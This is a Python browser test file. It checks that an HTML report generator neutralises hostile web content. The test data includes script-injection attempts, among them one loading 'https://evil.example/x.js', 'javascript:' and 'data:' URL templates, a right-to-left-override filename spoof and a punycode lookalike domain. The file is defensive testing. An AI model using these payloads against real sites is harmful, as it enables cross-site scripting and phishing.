"""Nothing that the web wrote runs, becomes a link that runs, or breaks the page's layout."""

from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import expect

from loccit.config.settings import ReportSettings
from loccit.errors import UsageError
from loccit.report import html
from loccit.report.html.pack import link_id
from tests.report import hostile
from tests.report.browser import Opened, wait_for_detail
from tests.report.conftest import Open

LINKED = """() => [...document.querySelectorAll("a[href]")]
    .map((a) => a.protocol).filter((p) => !["file:", "http:", "https:"].includes(p))"""
WIDE = "() => document.documentElement.scrollWidth - document.documentElement.clientWidth"


@pytest.mark.browser
@pytest.mark.parametrize("width", [1440, 390])
def test_nothing_runs_and_nothing_breaks(open_page: Open, width: int) -> None:
    """An alert would be a complaint; so would a refused script, an error, or a request."""
    page = open_page(hostile.REPORT, viewport={"width": width, "height": 900})
    for details in page.locator("main details").all():
        details.evaluate("(one) => { one.open = true }")
    assert page.evaluate(WIDE) <= 0
    for group in ("domain", "post", "none"):
        page.evaluate(f"location.hash = '#group={group}'")
        for _ in range(len(hostile.LINKS)):
            page.keyboard.press("j")
            wait_for_detail(page)
            page.locator("#detail details").first.evaluate("(one) => { one.open = true }")
            assert page.evaluate(LINKED) == []
            assert page.evaluate(WIDE) <= 0
    assert page.locator("img, iframe, object, embed, main script, svg[onload]").count() == 0
    assert page.evaluate("document.querySelectorAll('script').length") == 4


@pytest.mark.browser
def test_without_scripts_nothing_runs_either(opened: Callable[..., Opened]) -> None:
    one = opened(hostile.REPORT, java_script_enabled=False)
    page = one.open(ready=False)
    expect(page.locator("#plain")).to_be_visible()
    assert "\u202e" not in page.locator("main").inner_text()
    assert "safe[U+202E]gnp.exe" in page.locator("main").inner_text()
    hrefs = [a.get_attribute("href") or "" for a in page.locator("main a").all()]
    assert {href.partition(":")[0] for href in hrefs if not href.startswith("#")} == {"https"}


@pytest.mark.browser
def test_what_cannot_be_seen_is_shown(open_page: Open) -> None:
    place = hostile.TEXTS.index(hostile.BIDI)
    url = hostile.LINKS[len(hostile.NOT_OPENED) + place].url
    page = open_page(hostile.REPORT, f"#at={link_id(url)}")
    told = page.locator("#detail").inner_text()
    assert "safe[U+202E]gnp.exe[U+2066][U+200F][U+061C] end" in told
    assert "\u202e" not in told


@pytest.mark.browser
def test_a_lookalike_is_shown_as_it_is(open_page: Open) -> None:
    page = open_page(hostile.REPORT, f"#at={link_id(hostile.LOOKALIKE)}")
    heading = page.locator("#detail h3").inner_text()
    assert heading.startswith(hostile.LOOKALIKE)
    assert "(\u0430pple.com)" in heading
    assert "may imitate another" in heading
    causes = page.locator("#causes h3", has_text="xn--pple-43d.com").first.inner_text()
    assert "xn--pple-43d.com (\u0430pple.com)" in causes


@pytest.mark.browser
def test_a_huge_address_is_folded_until_asked_for(open_page: Open) -> None:
    page = open_page(hostile.REPORT, f"#at={link_id(hostile.HUGE)}")
    heading = page.locator("#detail h3")
    assert len(heading.inner_text()) < 600
    heading.get_by_role("button", name="Show all of it (100,021 characters)").click()
    assert len(heading.inner_text()) > 100_000
    assert page.evaluate(WIDE) <= 0
    # Too long for a browser to open; it can still be copied.
    assert page.locator("#detail header .no-link").count() == 1


@pytest.mark.browser
@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.innerHTML = '<b>x</b>'",
        "document.body.insertAdjacentHTML('beforeend', 'x')",
        "document.createElement('script').src = 'https://evil.example/x.js'",
        "document.createElement('script').textContent = 'alert(1)'",
        "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    ],
)
def test_the_page_itself_may_make_no_html(opened: Callable[..., Opened], attempt: str) -> None:
    """The policy holds for our own script too, so that a slip in it could not be used."""
    one = opened(hostile.REPORT)
    script = f"() => {{ try {{ {attempt}; return 'done' }} catch (e) {{ return e.name }} }}"
    assert one.open().evaluate(script) == "TypeError"
    assert any("requires 'Trusted" in told for told in one.complaints)
    one.complaints.clear()


def test_what_is_written_cannot_end_the_script_or_style(tmp_path: Path) -> None:
    file = tmp_path / "index.html"
    html.write(hostile.REPORT, file, ReportSettings())
    text = file.read_text(encoding="utf-8")
    assert text.count("<script") == 4
    assert text.count("</script>") == 4
    assert text.count("</style>") == 1
    assert "<img" not in text
    assert "{{" not in text.partition('<script id="data"')[0].replace("{{ 7 * 7 }}", "")


@pytest.mark.parametrize(
    "template",
    [
        "javascript:alert({path})",
        "data:,{path}",
        "/{path}",
        "https://git.example/",
        "JAVASCRIPT:{path}",
    ],
)
def test_a_source_template_that_is_none(tmp_path: Path, template: str) -> None:
    with pytest.raises(UsageError, match="source_url"):
        html.write(hostile.REPORT, tmp_path / "x", ReportSettings(source_url=template))
